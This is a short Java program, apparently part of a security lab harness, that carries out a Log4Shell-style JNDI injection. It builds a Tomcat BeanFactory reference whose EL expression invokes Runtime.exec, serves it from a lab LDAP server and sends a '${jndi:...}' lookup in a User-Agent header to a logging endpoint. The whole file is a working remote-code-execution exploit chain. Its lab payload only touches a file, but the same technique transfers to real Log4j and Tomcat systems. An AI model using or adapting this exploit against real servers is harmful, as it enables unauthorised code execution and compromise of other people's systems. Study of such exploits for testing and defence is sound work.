import javax.naming.StringRefAddr;
import org.apache.naming.ResourceRef;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Ldap;

public class Attack {
  public static void main(String[] args) throws Exception {
    ResourceRef ref =
        new ResourceRef(
            "javax.el.ELProcessor",
            null,
            "",
            "",
            true,
            "org.apache.naming.factory.BeanFactory",
            null);
    ref.add(new StringRefAddr("forceString", "x=eval"));
    ref.add(
        new StringRefAddr(
            "x",
            "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\""
                + Attacker.touch()
                + "\")"));
    Ldap.serveObject(Attacker.serialized(ref));
    Attacker.get("/log", "User-Agent", "${jndi:" + Ldap.URL + "/a}");
    Attacker.done();
  }
}
